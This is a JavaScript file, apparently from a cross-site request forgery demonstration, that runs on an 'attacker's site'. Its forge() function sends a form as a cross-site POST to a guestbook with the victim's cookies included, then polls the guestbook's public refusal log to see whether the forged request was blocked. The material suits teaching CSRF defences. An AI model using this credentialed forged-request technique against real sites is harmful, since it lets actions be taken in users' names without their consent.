// Served on the attacker's site. It can send a request to the guestbook and cannot read the response.
// The result is read from the public list of refused requests.
const main = document.querySelector('main')
const book = main.dataset.book
const list = document.querySelector('#refusals')
const state = document.querySelector('.log-state')

async function readRefusals() {
  return (await fetch(`${book}/refusals.json`)).json()
}

function show(refusals) {
  if (refusals.length === 0) setState('No request was refused so far.')
  list.replaceChildren(...refusals.map(toItem))
}

function toItem({ reason, method, path, refusedAt, refusedAtText }) {
  const item = document.createElement('li')
  const request = document.createElement('code')
  request.textContent = `${method} ${path}`
  const why = document.createElement('strong')
  why.textContent = reason
  const when = document.createElement('time')
  when.dateTime = new Date(refusedAt).toISOString()
  when.textContent = refusedAtText
  item.append(request, why, when)
  return item
}

function setState(text) {
  state.textContent = text
}

function showOutage() {
  setState('The guestbook does not respond.')
}

async function forge(form) {
  const [last] = await readRefusals()
  // No other site can read the response, so fetch rejects even for a 403.
  await fetch(form.action, {
    method: 'POST',
    mode: 'no-cors',
    credentials: 'include',
    body: new URLSearchParams(new FormData(form)),
  }).catch(() => {})
  for (let attempt = 0; attempt < 20; attempt++) {
    const refusals = await readRefusals()
    if (refusals[0] && refusals[0].refusedAt !== last?.refusedAt) {
      show(refusals)
      return 'Refused: it is the first in this list.'
    }
    // The guestbook stores a refusal after it has responded.
    await new Promise((resolve) => setTimeout(resolve, 100))
  }
  return 'Sent, and not in the list of refused requests. Check the guestbook.'
}

for (const form of document.querySelectorAll('[data-scripted]')) {
  form.addEventListener('submit', (event) => {
    event.preventDefault()
    setState('Sent with fetch…')
    forge(form).then(setState, showOutage)
  })
}

// Also after the Back button.
addEventListener('pageshow', () => {
  readRefusals().then(show, showOutage)
})
